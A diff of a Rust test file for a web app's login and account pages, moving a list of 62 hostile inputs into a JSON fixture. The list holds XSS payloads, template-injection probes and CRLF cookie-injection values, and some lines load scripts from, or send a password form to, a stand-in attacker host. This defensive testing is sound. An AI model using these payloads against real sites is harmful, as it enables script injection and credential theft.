@@ -15,70 +15,10 @@ use crate::harness::{Browser, PASSWORD, Reply, Site, application};
 
 const OWN: &str = "http://localhost:3000";
 
-const ATTACKS: [&str; 62] = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js>",
-    "</title><script>alert(1)</script>",
-    "</h1></main></body><script>alert(1)</script>",
-    "\"><script>alert(1)</script>",
-    "'><script>alert(1)</script>",
-    "\" onfocus=alert(1) autofocus x=\"",
-    "' onfocus=alert(1) autofocus x='",
-    "\" onmouseover=\"alert(1)",
-    "\"/><img src=x onerror=alert(1)>",
-    "` onfocus=alert(1) `",
-    " onfocus=alert(1) ",
-    "x onfocus=alert(1) y",
-    "\"\tonfocus=alert(1)\t\"",
-    "\">",
-    "\"",
-    "'",
-    "<",
-    ">",
-    "<<x>",
-    "<x-canary>",
-    "<x-canary/a=b",
-    "<x-canary a=\"",
-    "</x-canary>",
-    "<!--",
-    "-->",
-    "<!-- x -->",
-    "<![CDATA[<x-canary>]]>",
-    "<?php echo 1 ?>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert&#40;1)</script>",
-    "<math><mtext></p><img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<form action=//evil.example><input name=password>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<textarea><title><noscript><xmp>",
-    "<plaintext>",
-    "<input autofocus onfocus=alert(1)>",
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;",
-    "&quot;&gt;&lt;x-canary&gt;",
-    "&amp;&lt;",
-    "\u{ff1c}script\u{ff1e}alert(1)",
-    "\u{2039}script\u{203a}",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "{{7*7}}",
-    "{{ 7*'7' }}{% raw %}",
-    "{% include \"login.html\" %}",
-    "{# x #}{{ site.name }}{{ debug() }}",
-    "${7*7}#{7*7}<%= 7*7 %>*{7*7}@(7*7)",
-    "{ $username } { go-log-in } {\"x\"}",
-    "%s%n%x %(x)s {0} {} $1 \\1",
-    "\\\"><x-canary>",
-    "\\u003cscript\\u003e",
-    "]]>\"'`;--><x-canary a='\"`>",
-];
+/// Texts that would be markup, or a template, if they got through; a journey types the same ones in a real browser.
+fn attacks() -> Vec<String> {
+    serde_json::from_str(include_str!("markup.json")).unwrap()
+}
 
 /// What is compared with: taken, refused for its characters, refused for its length.
 const HARMLESS: [&str; 3] =
@@ -257,7 +197,7 @@ async fn markup_stays_text_wherever_it_is_typed() {
     }
     let page = Url::parse(OWN).unwrap().join("/user/login").unwrap();
     let (mut tried, mut echoed) = (0, 0);
-    for (number, text) in ATTACKS.iter().enumerate() {
+    for (number, text) in attacks().iter().enumerate() {
         for (place, reply) in tour(&site, number + 100, text).await {
             assert!(!reply.status.is_server_error(), "{place} {text}");
             assert!(!format!("{:?}", reply.headers).contains("<x-canary"), "{place} {text}: {:?}", reply.headers);
@@ -295,15 +235,16 @@ async fn json_is_json_whatever_is_in_it() {
     let mut mina = site.logged_in("mina").await;
     let more = ["</script><script>alert(1)</script>", "\u{1f512}\"\\/", "a\\u0022b", "]}'\")", "\u{fffd}\u{10ffff}"];
     let mut tried = 0;
-    for text in ATTACKS.iter().chain(&more).filter(|text| text.trim() == **text && !text.contains('\t')) {
+    let texts = attacks().into_iter().chain(more.map(str::to_owned));
+    for text in texts.filter(|text| text.trim() == text && !text.contains('\t')) {
         let renamed = mina.post_json("/user/account/name", json!({ "name": text })).await.expect(200);
-        assert_eq!(renamed.json()["user"]["name"], *text);
+        assert_eq!(renamed.json()["user"]["name"], text);
         for path in ["/user/info", "/user/account"] {
             let reply = mina.get_json(path).await.expect(200);
-            assert_eq!(reply.json()["user"]["name"], *text, "{path}");
+            assert_eq!(reply.json()["user"]["name"], text, "{path}");
             is_no_page(&reply);
         }
-        let refused = site.browser().log_in(text).await.expect(401);
+        let refused = site.browser().log_in(&text).await.expect(401);
         is_no_page(&refused);
         tried += 3;
     }
@@ -323,9 +264,10 @@ fn is_no_page(reply: &Reply) {
 #[tokio::test]
 async fn a_language_that_is_none_sets_no_cookie() {
     let site = site().await;
-    for text in ATTACKS.iter().chain(&["ko\r\nset-cookie: a=b", "ko; Domain=evil.example", "KO ", "ko,en"]) {
+    let more = ["ko\r\nset-cookie: a=b", "ko; Domain=evil.example", "KO ", "ko,en"];
+    for text in attacks().into_iter().chain(more.map(str::to_owned)) {
         let mut browser: Browser = site.browser();
-        let page = browser.get(&format!("/user/login?lang={}", encoded(text))).await.expect(200);
+        let page = browser.get(&format!("/user/login?lang={}", encoded(&text))).await.expect(200);
         assert_eq!(page.cookies().len(), 0, "{text}: {:?}", page.cookies());
     }
 }
